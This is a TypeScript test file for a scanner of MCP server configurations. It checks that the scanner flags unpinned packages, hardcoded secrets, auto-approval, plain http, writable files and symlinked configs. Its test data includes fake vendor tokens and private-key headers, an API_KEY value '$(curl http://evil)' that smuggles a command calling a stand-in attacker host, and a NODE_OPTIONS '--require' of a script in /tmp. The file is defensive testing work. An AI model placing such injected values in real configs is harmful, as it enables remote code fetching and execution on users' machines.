// biome-ignore-all lint/suspicious/noTemplateCurlyInString: texts of configs, not templates
import assert from 'node:assert/strict';
import { chmodSync, chownSync, renameSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { classifySecret } from '../../../inventory/index.ts';
import { TempHome } from '../temp-home.ts';

async function findingsOf(home: TempHome, entry: object): Promise<readonly string[]> {
  home.write('.cursor/mcp.json', { mcpServers: { s: entry } });
  return idsOf(home);
}

async function idsOf(home: TempHome): Promise<readonly string[]> {
  const { servers } = await home.scan();
  return (servers[0]?.server.findings ?? [])
    .filter(({ severity }) => severity !== 'informational')
    .map(({ id }) => id);
}

test('an ordinary server has no findings', async () => {
  using home = new TempHome();
  home.write('x.mjs', '');
  assert.deepEqual(await findingsOf(home, { command: 'node', args: ['x.mjs'], autoApprove: [] }), []);
});

test('a package without an exact version is a finding', async () => {
  using home = new TempHome();
  for (const spec of ['pkg', 'pkg@latest', '@x/pkg@^1.0.0', '@x/pkg', 'github:x/y']) {
    assert.deepEqual(
      await findingsOf(home, { command: 'npx', args: ['-y', spec] }),
      ['mcp_unpinned_package'],
      spec,
    );
  }
  for (const spec of ['pkg@1.2.3', '@x/pkg@1.2.3-rc.1', `github:x/y#${'a'.repeat(40)}`]) {
    assert.deepEqual(await findingsOf(home, { command: 'npx', args: ['-y', spec] }), [], spec);
  }
  assert.deepEqual(await findingsOf(home, { command: 'uvx', args: ['tool==1.0.0'] }), []);
  assert.deepEqual(await findingsOf(home, { command: 'uvx', args: ['tool'] }), ['mcp_unpinned_package']);
  assert.deepEqual(await findingsOf(home, { command: 'docker', args: ['run', 'x:latest'] }), [
    'mcp_unpinned_package',
  ]);
});

test('secrets are found by shape, name and randomness; references and placeholders are not', () => {
  const cases: readonly (readonly [string, string, string | null])[] = [
    ['X', `ghp_${'a1B2'.repeat(9)}`, 'github-pat'],
    ['X', 'AKIAZ7QWERTYUIOPASDF', 'aws-key'],
    ['X', `xoxb-${'1234567890-abcdef'}`, 'slack'],
    ['X', `sk-ant-api03-${'aB3'.repeat(10)}`, 'anthropic'],
    ['X', `sk-proj-${'aB3'.repeat(10)}`, 'openai'],
    ['X', `AIza${'aB3-_'.repeat(7)}`, 'google'],
    ['X', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3In0.c2lnbmF0dXJl', 'jwt'],
    ['X', '-----BEGIN RSA PRIVATE KEY-----\nMII', 'private-key'],
    ['DATABASE_URL', 'postgres://app:s3cr3tpw@db/x', 'url-credentials'],
    ['DB_PASSWORD', 'hunter2hunter2', 'named-secret'],
    ['Authorization', 'Bearer 0a1b2c3d4e5f', 'authorization'],
    ['apiKey', 'q8w7e6r5t4', 'named-secret'],
    ['X', `github_pat_${'a1B2_'.repeat(9)}`, 'github-pat'],
    ['X', `pypi-AgEIcHlwaS5vcmc${'aB3'.repeat(20)}`, 'pypi'],
    ['X', `DefaultEndpointsProtocol=https;AccountKey=${'aB3+'.repeat(21)}AA==`, 'azure'],
    ['X', `https://hooks.slack.com/services/T0A1B2C3D/B0A1B2C3D/${'aB3'.repeat(8)}`, 'webhook'],
    ['X', `SG.${'aB3'.repeat(7)}.${'aB3'.repeat(14)}`, 'vendor-token'],
    ['X', `{"type":"service_account","private_key":"-----BEGIN PRIVATE KEY-----\\nMII"}`, 'private-key'],
    ['X', 'the pypi-mirror of https://hooks.slack.com/docs', null],
    ['X', 'Zk3v9QpL0sXy7TnB4cRw8MdJ', 'high-entropy'],
    ['GITHUB_TOKEN', '${GITHUB_TOKEN}', null],
    ['Authorization', 'Bearer ${TOKEN}', null],
    ['API_KEY', '{env:API_KEY}', null],
    ['API_KEY', 'YOUR_API_KEY_HERE', null],
    ['API_KEY', '<your key>', null],
    ['TOKEN_FILE', '/run/secrets/token', null],
    ['NODE_OPTIONS', '--require /tmp/aaaaaaaaaa.cjs', null],
    ['LOG_LEVEL', 'info', null],
    ['DATABASE_PATH', '/home/u/data/nodes.db', null],
    ['API_KEY', '$(curl http://evil)', null],
  ];
  for (const [name, value, expected] of cases)
    assert.equal(classifySecret(name, value), expected, `${name}=${value}`);
});

test('secrets in env, headers, arguments and the URL are findings and never leave in the inventory', async () => {
  using home = new TempHome();
  const secret = 'q8W7e6R5t4Y3u2';
  const entries = [
    { command: 'true', env: { MY_API_KEY: secret } },
    { url: 'https://x.example', headers: { Authorization: `Bearer ${secret}` } },
    { command: 'true', args: ['--api-key', secret] },
    { command: 'true', args: [`--token=${secret}`, `API_KEY="${secret}"`] },
    { url: `https://user:${secret}@x.example/mcp` },
    { url: `https://x.example/mcp?api_key=${secret}&x=1` },
    { command: 'true', args: [`-----BEGIN PRIVATE KEY-----\n${secret}\n-----END PRIVATE KEY-----`] },
    { command: 'true', args: [`-----BEGIN RSA PRIVATE KEY-----\n${secret}`] },
    { url: `https://x.example/s/Zk3v9QpL0s${secret}/mcp` },
    { command: 'true', args: ['--url', `https://x.example/s/Zk3v9QpL0s${secret}/mcp?a=1`] },
  ];
  for (const entry of entries) {
    home.write('.cursor/mcp.json', { mcpServers: { s: entry } });
    const { servers } = await home.scan();
    const [found] = servers;
    assert.deepEqual(
      found?.server.findings.filter(({ severity }) => severity !== 'informational').map(({ id }) => id),
      ['mcp_hardcoded_secret'],
      JSON.stringify(entry),
    );
    assert.ok(
      !JSON.stringify([found?.server, found?.env, found?.entry]).includes(secret),
      JSON.stringify(entry),
    );
  }
});

test('auto-approval and plain http are findings', async () => {
  using home = new TempHome();
  assert.deepEqual(await findingsOf(home, { command: 'true', autoApprove: ['a'] }), ['mcp_auto_approve']);
  assert.deepEqual(await findingsOf(home, { command: 'true', trust: true }), ['mcp_auto_approve']);
  assert.deepEqual(await findingsOf(home, { url: 'http://x.example/mcp' }), ['mcp_plain_http']);
  assert.deepEqual(await findingsOf(home, { url: 'http://localhost:3000/mcp' }), []);
});

test('a config, script or directory that others can write is a finding', async () => {
  using home = new TempHome();
  const script = home.write('srv/x.mjs', '');
  const entry = { command: 'node', args: [script] };
  assert.deepEqual(await findingsOf(home, entry), []);
  chmodSync(join(home.path, '.cursor/mcp.json'), 0o666);
  assert.deepEqual(await idsOf(home), ['mcp_config_writable_by_others']);
  chmodSync(join(home.path, '.cursor/mcp.json'), 0o644);
  chmodSync(join(home.path, '.cursor'), 0o777);
  assert.deepEqual(await idsOf(home), ['mcp_config_writable_by_others']);
  chmodSync(join(home.path, '.cursor'), 0o1777);
  assert.deepEqual(await idsOf(home), [], 'a sticky directory keeps others away');
  chmodSync(join(home.path, '.cursor'), 0o755);
  chmodSync(join(home.path, 'srv'), 0o777);
  assert.deepEqual(await idsOf(home), ['mcp_helper_writable']);
});

test('writers are named: a foreign owner, a group, everyone', async (t) => {
  if (process.getuid?.() !== 0) return t.skip('changing owners needs root');
  using home = new TempHome();
  const script = home.write('x.mjs', '', 0o664);
  chownSync(script, 54_321, 54_322);
  home.write('.cursor/mcp.json', { mcpServers: { s: { command: 'node', args: [script] } } });
  const { servers } = await home.scan();
  const artefact = servers[0]?.server.closure.artefacts.find(({ role }) => role === 'script');
  assert.deepEqual(artefact?.writable_by, ['54321', 'group:54322']);
  assert.deepEqual([artefact?.owner, artefact?.mode], ['54321', '0664']);
});

test('a config that is a symlink is a finding, and both ends are watched', async () => {
  using home = new TempHome();
  const path = home.write('.cursor/mcp.json', { mcpServers: { s: { command: 'true' } } });
  renameSync(path, join(home.path, 'real.json'));
  symlinkSync('../real.json', path);
  assert.deepEqual(await idsOf(home), ['mcp_config_symlink']);
  const { watch } = await home.scan();
  assert.ok(watch.files.includes(path) && watch.files.includes(join(home.path, 'real.json')));
});
